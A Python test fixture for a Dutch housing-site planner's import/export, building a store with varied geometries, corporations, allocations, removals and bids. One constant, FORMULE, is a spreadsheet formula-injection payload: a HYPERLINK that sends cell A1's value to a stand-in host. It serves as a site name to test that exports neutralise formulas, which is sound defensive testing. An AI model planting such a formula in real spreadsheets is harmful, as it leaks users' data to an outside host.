"""Test data for import/export: a store with polygons, points, splits, phasing and odd texts."""

from __future__ import annotations

from datetime import date
from pathlib import Path

from shapely.geometry import MultiPolygon, Point, Polygon, box

from locatieplanner.domein.model import Bod, Corporatie, Locatie, Onttrekking, Toewijzing
from locatieplanner.domein.regio import laad_regio
from locatieplanner.store import Store

#: A formula that a spreadsheet would run if the cell were not neutralised.
FORMULE = '=HYPERLINK("http://voorbeeld.invalid/?x="&A1,"klik")'


def nieuwe_store(tmp_path: Path, naam: str = "doel") -> Store:
    """An empty store with the two small municipalities and corporations of ``kleine_store``."""
    from conftest import KLEINE_GEMEENTEN

    store = Store.open(f"sqlite:///{tmp_path / (naam + '.sqlite')}")
    store.zet_regio(laad_regio())
    store.bewaar_gemeenten(KLEINE_GEMEENTEN)
    store.bewaar_corporatie(Corporatie("Staedion", "STA", ["GM0518"]))
    store.bewaar_corporatie(Corporatie("Vidomes", "VID", ["GM0518", "GM0603"]))
    return store


def vul(store: Store) -> list[Locatie]:
    """Add five sites (polygon, multipolygon, polygon with hole, two points), removals, bids."""
    gat = Polygon(
        [(81000, 451000), (81200, 451000), (81200, 451200), (81000, 451200)],
        [[(81050, 451050), (81050, 451100), (81100, 451100), (81100, 451050)]],
    )
    locaties = [
        Locatie(
            "Café Ëïland (gesplitst)",
            box(80000.123, 450000.456, 80100.789, 450100.012),
            "1A",
            bron_id="DH-001",
            fase=6,
            daeb=50,
            midden=20,
            start=2022,
            oplevering=2026,
            opmerking="Eerste fase; ‘aanhalingstekens’ en €",
            toewijzingen=[
                Toewijzing("Staedion", 30, 2025),
                Toewijzing("Vidomes", 10, 2026),
            ],
        ),
        Locatie(
            FORMULE,
            MultiPolygon([box(82000, 452000, 82050, 452050), box(82100, 452000, 82150, 452050)]),
            "2C",
            bron_id="DH-002",
            daeb=12,
            bet_koop=8,
            start=2024,
            oplevering=2027,
            toewijzingen=[Toewijzing("Staedion", 12)],
        ),
        Locatie("Binnenhof met gat", gat, "3", bron_id="DH-003", daeb=0, overig=40),
        Locatie(
            "Punt Rijswijk",
            Point(87000.5, 450000.25),
            "4A",
            bron_id="RW-001",
            daeb=25,
            goedk_koop=5,
            oplevering=2029,
            toewijzingen=[Toewijzing("Vidomes", 25, 2029)],
        ),
        Locatie("Zonder bron", Point(83000, 455000), "1B", daeb=7, soc_huur=3),
    ]
    opgeslagen = [store.voeg_locatie_toe(loc) for loc in locaties]
    store.voeg_onttrekking_toe(
        Onttrekking("GM0518", 2024, 40, "sloop", "Staedion", opgeslagen[0].id, "Sloop flat")
    )
    store.voeg_onttrekking_toe(Onttrekking("GM0603", 2025, 10, "verkoop", None, None, None))
    store.bewaar_bod(Bod("GM0518", "origineel", date(2021, 3, 31), 2000, "Start"))
    store.bewaar_bod(Bod("GM0518", "aangescherpt", date(2022, 11, 15), 2100))
    store.bewaar_bod(Bod("GM0603", "origineel", date(2021, 3, 31), 800))
    return opgeslagen
